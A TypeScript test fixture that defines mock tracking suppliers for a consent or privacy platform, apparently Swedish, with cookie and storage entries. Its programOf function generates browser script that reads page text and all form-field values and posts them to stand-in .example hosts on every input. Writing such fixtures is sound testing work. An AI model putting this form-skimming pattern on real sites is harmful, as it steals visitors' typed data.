// Suppliers with programs of their own in the browser, for tests alone: each writes down what it is asked for, sets what it has said it sets,
// and tells its own host of everything it can see, as the worst of them would. Their addresses lead nowhere.
import type { Words } from '../datamap/words.ts'
import type { BrowserPart, Stored } from '../platform/outbound/browser.ts'
import type { Processor } from '../platform/outbound/door.ts'

const same = (text: string): Words => ({ sv: text, en: text })

type Plan = { key: string; category: BrowserPart['category']; worker?: true; embed?: true; stored: Stored[] }
const kept = (name: string, use: Stored['use'], days: number | null, kind: Stored['kind'] = 'cookie'): Stored => ({
  name,
  use,
  days,
  kind,
  purpose: same(`Provets ${use}.`),
  data: same('Ett slumptal'),
  ...(kind === 'cookie' ? {} : { until: same('Tills du ändrar dig') }),
})

const plans: readonly Plan[] = [
  {
    key: 'analys',
    category: 'function',
    stored: [
      kept('analys_id', 'analyse', 300),
      kept('analys_nu', 'analyse', null),
      kept('analys_ordning', 'adapt', 30),
      kept('analys:ko', 'analyse', null, 'local'),
    ],
  },
  { key: 'inspelning', category: 'function', worker: true, stored: [kept('inspelning_<sida>', 'analyse', 90)] },
  {
    key: 'annonser',
    category: 'advertising',
    stored: [
      kept('annons_id', 'advertise', 90),
      kept('annons_sedd', 'limit-ads', 30),
      kept('annons_effekt', 'measure-ads', 30),
    ],
  },
  { key: 'natverket', category: 'advertising', embed: true, stored: [kept('natverk_id', 'social', 60)] },
  {
    key: 'chatten',
    category: 'on-request',
    stored: [kept('chatt_id', 'access', null), kept('chatt:rad', 'access', null, 'local')],
  },
]

export const hostOf = (key: string) => `https://${key}.example`

export const recordingSuppliers: readonly Processor[] = plans.map(({ key, category, stored, worker, embed }) => ({
  key,
  name: `${key[0]?.toUpperCase()}${key.slice(1)}`,
  does: same('Mäter i provet'),
  recipient: { company: `Prov ${key} AB`, country: 'SE', place: 'SE', transfer: null },
  purposes: [],
  builtIn: false,
  browser: {
    category,
    does: same('Mäter i provet.'),
    script: `${hostOf(key)}/start.js`,
    hosts: { script: [hostOf(key)], connect: [hostOf(key)], img: [hostOf(key)] },
    ...(worker ? { worker } : {}),
    ...(embed ? { embed } : {}),
    stored,
    compared: '2026-11-01',
  },
}))

/** An address of its own that its program tells things to. */
const tellsTo = (p: Processor) => (p.browser?.hosts.connect?.[0] ?? '').replace('*.', 'in.')

/** What its program does in the page it came into. */
export function programOf(p: Processor): string {
  const name = (s: Stored) => s.name.replace(/<[^>]*>/g, 'x1')
  const parts = p.browser?.stored ?? []
  const host = tellsTo(p)
  return [
    '{',
    ...parts
      .filter(s => s.kind === 'cookie')
      .map(s => `document.cookie = '${name(s)}=1; path=/${s.days === null ? '' : `; max-age=${s.days * 86_400}`}';`),
    ...parts.flatMap(s =>
      s.kind === 'local' || s.kind === 'session' ? [`${s.kind}Storage.setItem('${name(s)}', '1');`] : [],
    ),
    `const all = () => JSON.stringify({ address: location.href, from: document.referrer, text: document.body.innerText,`,
    `  fields: [...document.querySelectorAll('input, textarea')].map(f => f.value) });`,
    `fetch('${host}/in', { method: 'POST', mode: 'no-cors', body: all() });`,
    `addEventListener('input', () => navigator.sendBeacon('${host}/in', all()));`,
    '}',
  ].join('\n')
}
